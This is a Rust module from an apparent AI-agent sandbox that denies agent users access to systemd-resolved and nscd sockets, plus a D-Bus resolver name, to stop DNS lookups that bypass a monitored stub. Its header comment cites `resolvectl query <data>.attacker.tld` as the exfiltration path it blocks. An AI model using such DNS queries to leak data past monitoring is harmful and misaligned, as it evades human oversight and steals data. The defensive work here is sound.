//! The local resolvers that answer the agent around its DNS stub, closed to the agent users.
//!
//! The firewall sends every DNS packet of the agent to the stub, but on Linux names are also
//! resolved over local sockets, by daemons that then query the network as themselves:
//! systemd-resolved's varlink socket (`io.systemd.Resolve`, mode 0666, what `nss-resolve` and
//! `resolvectl` use) and its D-Bus name `org.freedesktop.resolve1`, and nscd's socket. Through
//! any of them `resolvectl query <data>.attacker.tld` carries data out, whatever the policy.
//!
//! What install does about it (Linux):
//! - a D-Bus system policy that denies the agent users every message to
//!   `org.freedesktop.resolve1` (a `<policy user=…>` rule beats the service's own
//!   `context="default"` allow; dbus-daemon rereads its policy directory by itself);
//! - a `user:AGENT:---` POSIX ACL entry on each socket ([`agenshield_pf::socket_acl`]), which
//!   refuses the agent's `connect(2)` and nobody else's; the agent's `nss-resolve` and glibc's
//!   nscd client then fall back to plain DNS, which the firewall sends to the stub;
//! - because the services make their sockets anew when they start, a systemd drop-in per
//!   service whose `ExecStartPost` applies the ACL again (`agenshield proxy firewall
//!   resolvers`).
//!
//! `doctor` checks each socket as the agent (can it connect?) and the D-Bus policy file.

use std::path::{Path, PathBuf};

/// A socket a local resolver answers on, and the service that makes it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ResolverSocket {
    pub what: &'static str,
    pub unit: &'static str,
    pub path: &'static str,
}

/// The sockets closed to the agent users.
pub const SOCKETS: [ResolverSocket; 3] = [
    ResolverSocket {
        what: "systemd-resolved (varlink)",
        unit: "systemd-resolved.service",
        path: "/run/systemd/resolve/io.systemd.Resolve",
    },
    ResolverSocket {
        what: "nscd",
        unit: "nscd.service",
        path: "/var/run/nscd/socket",
    },
    ResolverSocket {
        what: "unscd",
        unit: "unscd.service",
        path: "/var/run/nscd/socket",
    },
];

/// Where dbus-daemon reads local policy files.
pub const DBUS_POLICY_DIR: &str = "/etc/dbus-1/system.d";
/// Our policy file in it.
pub const DBUS_POLICY_PATH: &str = "/etc/dbus-1/system.d/agenshield-resolver.conf";
/// The D-Bus names that resolve names for their callers.
pub const DBUS_RESOLVERS: [&str; 1] = ["org.freedesktop.resolve1"];
/// The drop-in's file name in each service's `.d` directory.
pub const DROPIN_NAME: &str = "agenshield-resolver.conf";

/// The D-Bus system policy denying `agents` every message to the resolver names.
pub fn dbus_policy(agents: &[&str]) -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n\
         <!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN\"\n \
         \"http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd\">\n\
         <!-- Written by `agenshield proxy install`: the agent users may not ask the system's\n     \
         resolver to resolve names around their DNS stub. -->\n\
         <busconfig>\n",
    );
    for a in agents {
        s.push_str(&format!("  <policy user=\"{}\">\n", xml_escape(a)));
        for name in DBUS_RESOLVERS {
            s.push_str(&format!("    <deny send_destination=\"{name}\"/>\n"));
        }
        s.push_str("  </policy>\n");
    }
    s.push_str("</busconfig>\n");
    s
}

/// The drop-in directory of `unit` under `/etc/systemd/system`.
pub fn dropin_dir(unit: &str) -> PathBuf {
    Path::new("/etc/systemd/system").join(format!("{unit}.d"))
}

/// The drop-in: once the service is up (its socket made), the ACL again; as root (`+`), and
/// a failure does not fail the service (`-`).
pub fn dropin(bin: &Path, config: &Path) -> String {
    format!(
        "# Written by `agenshield proxy install`: the service makes its socket anew when it\n\
         # starts, so the entry that closes it to the agent users is applied again.\n\
         [Service]\n\
         ExecStartPost=-+{} proxy firewall resolvers --config {}\n",
        bin.display(),
        config.display()
    )
}

/// The distinct socket paths.
pub fn socket_paths() -> Vec<PathBuf> {
    let mut v: Vec<PathBuf> = SOCKETS.iter().map(|s| PathBuf::from(s.path)).collect();
    v.dedup();
    v
}

/// What became of one socket.
#[derive(Debug)]
pub enum Outcome {
    /// Not there (the service is not running here).
    Absent,
    Changed,
    Already,
    Failed(std::io::Error),
}

/// Closes (`open == false`) or reopens each of `paths` to `uids`.
pub fn apply(paths: &[PathBuf], uids: &[u32], open: bool) -> Vec<(PathBuf, Outcome)> {
    paths
        .iter()
        .map(|p| {
            let outcome = match std::fs::symlink_metadata(p) {
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Outcome::Absent,
                Err(e) => Outcome::Failed(e),
                Ok(_) => match set(p, uids, open) {
                    Ok(true) => Outcome::Changed,
                    Ok(false) => Outcome::Already,
                    Err(e) => Outcome::Failed(e),
                },
            };
            (p.clone(), outcome)
        })
        .collect()
}

#[cfg(target_os = "linux")]
fn set(p: &Path, uids: &[u32], open: bool) -> std::io::Result<bool> {
    use std::os::unix::fs::FileTypeExt;
    if !std::fs::symlink_metadata(p)?.file_type().is_socket() {
        return Err(std::io::Error::new(
            std::io::ErrorKind::InvalidInput,
            "not a socket: left alone",
        ));
    }
    if open {
        agenshield_pf::socket_acl::undeny(p, uids)
    } else {
        agenshield_pf::socket_acl::deny(p, uids)
    }
}

#[cfg(not(target_os = "linux"))]
fn set(_p: &Path, _uids: &[u32], _open: bool) -> std::io::Result<bool> {
    Err(std::io::Error::new(
        std::io::ErrorKind::Unsupported,
        "only on Linux (macOS: see mDNSResponder in the README)",
    ))
}

fn xml_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_agent_gets_a_deny_rule_and_the_drop_in_reapplies_the_acl() {
        let p = dbus_policy(&["ash_default_agent", "a&b"]);
        assert!(p.contains(
            "  <policy user=\"ash_default_agent\">\n    <deny send_destination=\"org.freedesktop.resolve1\"/>\n  </policy>\n"
        ));
        assert!(p.contains("user=\"a&amp;b\""));
        assert_eq!(
            dropin_dir("nscd.service"),
            Path::new("/etc/systemd/system/nscd.service.d")
        );
        assert!(
            dropin(Path::new("/b/agenshield"), Path::new("/c.toml")).ends_with(
                "ExecStartPost=-+/b/agenshield proxy firewall resolvers --config /c.toml\n"
            )
        );
        assert_eq!(socket_paths().len(), 2);
    }
}
